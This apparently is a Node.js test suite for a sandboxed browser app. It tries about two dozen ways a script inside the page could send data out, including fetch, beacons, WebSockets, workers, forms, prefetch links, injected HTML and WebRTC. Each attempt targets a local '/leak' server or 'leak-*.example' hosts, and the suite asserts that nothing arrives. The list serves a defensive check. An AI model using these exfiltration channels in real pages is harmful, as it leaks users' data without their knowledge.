// Nothing leaves the machine: every way a script has of sending something is tried from within the page, against a server that would notice.
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { executable, launch, launchWithProfile, openPage, tool } from './browser.mjs';

const skip = executable ? false : 'no Chromium is installed';

describe('a script within the page that tries to send something', { skip }, () => {
  let browser, server, address, seen;
  before(async () => {
    browser = await launch();
    seen = [];
    server = createServer((request, response) => { seen.push(`${request.method} ${request.url}`); response.setHeader('content-type', 'text/html'); response.end('<!DOCTYPE html><title>x</title>'); });
    server.on('upgrade', (request, socket) => { seen.push(`upgrade ${request.url}`); socket.destroy(); });
    await new Promise(resolve => server.listen(0, '127.0.0.1', resolve));
    address = `http://127.0.0.1:${server.address().port}`;
  });
  after(async () => { await browser?.close(); server?.close(); });

  it('reaches a server that listens, when there is no policy (or this test proves nothing)', async () => {
    seen = [];
    const page = await browser.newPage();
    await page.evaluate(url => fetch(`${url}/control`, { mode: 'no-cors' }).catch(() => {}), address);
    await page.waitForTimeout(500);
    assert.deepEqual(seen, ['GET /control']);
    await page.close();
  });

  const ways = {
    fetch: url => fetch(url, { mode: 'no-cors' }),
    XMLHttpRequest: url => { const request = new XMLHttpRequest(); request.open('POST', url); request.send('x'); },
    sendBeacon: url => navigator.sendBeacon(url, 'x'),
    WebSocket: url => new WebSocket(url.replace('http', 'ws')),
    EventSource: url => new EventSource(url),
    image: url => { new Image().src = url; },
    script: url => { document.head.append(Object.assign(document.createElement('script'), { src: url })); },
    'style sheet': url => { document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url })); },
    prefetch: url => { document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: url })); },
    frame: url => { document.body.append(Object.assign(document.createElement('iframe'), { src: url })); },
    'frame that fetches': url => { document.body.append(Object.assign(document.createElement('iframe'), { src: URL.createObjectURL(new Blob([`<img src="${url}"><script>fetch(${JSON.stringify(url)}, { mode: 'no-cors' }); top.location = ${JSON.stringify(url)}</script>`], { type: 'text/html' })) })); },
    'style import': url => { document.head.append(Object.assign(document.createElement('style'), { textContent: `@import url(${url}); body { background: url(${url}/background) }` })); },
    worker: url => new Worker(url),
    'worker that fetches': url => new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(url)}, { mode: 'no-cors' }); importScripts(${JSON.stringify(url)})`]))),
    module: url => import(url),
    form: url => { const form = Object.assign(document.createElement('form'), { action: url, method: 'post' }); document.body.append(form); form.submit(); },
    media: url => { document.body.append(Object.assign(document.createElement('video'), { src: url, autoplay: true })); },
    object: url => { document.body.append(Object.assign(document.createElement('object'), { data: url })); },
    'new window': url => open(url),
    'link to a new window': url => { const link = Object.assign(document.createElement('a'), { href: url, target: '_blank' }); document.body.append(link); link.click(); },
    'navigation of the page': url => { top.location.href = url; },
    'navigation of the frame': url => { location.href = url; },
    // What the page hands out to be printed stands outside of the sandbox.
    'what is to be printed': url => { parent.postMessage({ printed: `<meta http-equiv="refresh" content="0;url=${url}"><img src="${url}"><a href="${url}" ping="${url}">x</a><form action="${url}"></form><iframe src="${url}"></iframe><link rel="prefetch" href="${url}"><div style="background:url(${url})">x</div><script>fetch("${url}")</script>`, look: `@import url(${url}); body { background: url(${url}) }` }, '*'); },
  };

  for (const [name, way] of Object.entries(ways)) {
    it(`sends nothing by ${name}`, async () => {
      seen = [];
      const { page, context } = await openPage(browser);
      const frame = page.frames().find(frame => frame !== page.mainFrame());
      await frame.evaluate(([code, url]) => { try { Promise.resolve((0, eval)(`(${code})`)(url)).catch(() => {}); } catch { /* refused */ } }, [way.toString(), `${address}/leak`]).catch(() => {});
      await page.waitForTimeout(400);
      await context.close();
      assert.deepEqual(seen, []);
    });
  }

  /** The names that a browser has looked up while something was done in it; they are seen in the log of its own network. */
  async function namesLookedUp(act) {
    const folder = mkdtempSync(join(tmpdir(), 'leak-'));
    const log = join(folder, 'net.json');
    const logged = await launchWithProfile(join(folder, 'profile'), [`--log-net-log=${log}`, '--net-log-capture-mode=Everything']);
    await act(logged, folder);
    await new Promise(resolve => setTimeout(resolve, 2000));
    await logged.close();
    const written = readFileSync(log, 'utf8');
    assert.ok(written.includes('constants'), 'the log was written');
    return [...new Set(written.match(/leak-[a-z-]+\.example/g) ?? [])].sort();
  }

  const naming = ['dns-prefetch', 'preconnect', 'prefetch', 'preload'].map(rel => `<link rel="${rel}" as="image" href="http://leak-${rel}.example/">`).join('');
  /** Names hosts in every way a document has. */
  const name = frame => frame.evaluate(html => {
    document.head.append(...new DOMParser().parseFromString(html, 'text/html').head.childNodes);
    document.body.append(Object.assign(document.createElement('a'), { href: 'http://leak-link.example/', textContent: 'x' }));
    fetch('http://leak-fetch.example/').catch(() => {});
  }, naming);

  it('has its names looked up, when there is no policy (or the next tests prove nothing)', async () => {
    const names = await namesLookedUp(async browser => {
      const page = await browser.newPage();
      await page.goto(`${address}/plain`, { timeout: 90_000, waitUntil: 'commit' });
      await name(page.mainFrame());
    });
    assert.deepEqual(names, ['leak-dns-prefetch.example', 'leak-fetch.example', 'leak-preconnect.example', 'leak-prefetch.example', 'leak-preload.example']);
  });

  it('has looked up only the names that no policy can forbid', async () => {
    const names = await namesLookedUp(async browser => {
      const { page } = await openPage(browser);
      await name(page.frames().find(frame => frame !== page.mainFrame()));
    });
    assert.deepEqual(names, ['leak-dns-prefetch.example', 'leak-preconnect.example']);
  });

  it('has no name looked up by a report that brings such places along', async () => {
    const names = await namesLookedUp(async (browser, folder) => {
      const report = join(folder, 'report.html');
      const places = `${naming}<a href="http://leak-link.example/">x</a><img src="http://leak-image.example/"><script>fetch('http://leak-fetch.example/')</script>`;
      writeFileSync(report, tool('convert', 'seeds/yonghe-2019.txt', '--to', 'html').replace('<head>', () => `<head>${places}`).replace(/<p>/g, () => `<p>${places}`));
      const { app } = await openPage(browser);
      await app.locator('#files').setInputFiles(report);
      await app.locator('.verdict.error').waitFor();
      await app.locator('#save-result').click();
    });
    assert.deepEqual(names, []);
  });

  it('sends nothing by WebRTC', async () => {
    const seen = [];
    const listener = createSocket('udp4', message => seen.push(message.length));
    await new Promise(resolve => listener.bind(0, '127.0.0.1', resolve));
    const { page, context } = await openPage(browser);
    await page.frames().find(frame => frame !== page.mainFrame()).evaluate(async port => {
      try {
        const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
        connection.createDataChannel('x');
        await connection.setLocalDescription(await connection.createOffer());
      } catch { /* refused */ }
    }, listener.address().port);
    await page.waitForTimeout(3000);
    await context.close();
    listener.close();
    assert.deepEqual(seen, []);
  });
});
